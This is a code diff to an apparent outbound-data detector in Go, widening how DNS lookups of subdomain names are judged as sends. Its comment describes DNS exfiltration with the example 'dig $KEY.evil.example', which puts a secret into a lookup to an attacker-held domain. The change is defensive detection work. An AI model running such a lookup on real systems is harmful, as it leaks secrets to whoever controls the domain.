@@ -904,14 +904,19 @@ func mailDests(args []string, _ string) []string {
 }
 
 // dnsDests: a lookup sends its name to the name's servers: the data is in
-// the labels.
+// the labels. A name with a label below its domain (x.evil.example) reaches
+// the domain's own servers, whoever holds it, and that one label carries up
+// to 63 bytes: dig $KEY.evil.example, or a value spelled by hand after a
+// secret read (before, names of fewer than four labels were not judged as
+// sends at all). A bare domain (evil.example) reaches its top-level
+// domain's servers only.
 func dnsDests(args []string, _ string) []string {
 	out := []string{}
 	for _, x := range args {
 		if strings.HasPrefix(x, "-") || strings.HasPrefix(x, "@") || strings.HasPrefix(x, "+") {
 			continue
 		}
-		if looksLikeHost(x) && strings.Count(x, ".") >= 3 {
+		if looksLikeHost(x) && !isIPv4(x) && strings.Count(strings.TrimSuffix(x, "."), ".") >= 2 {
 			labels := strings.Split(strings.TrimSuffix(strings.ToLower(x), "."), ".")
 			out = appendNew(out, strings.Join(labels[len(labels)-2:], "."))
 			continue
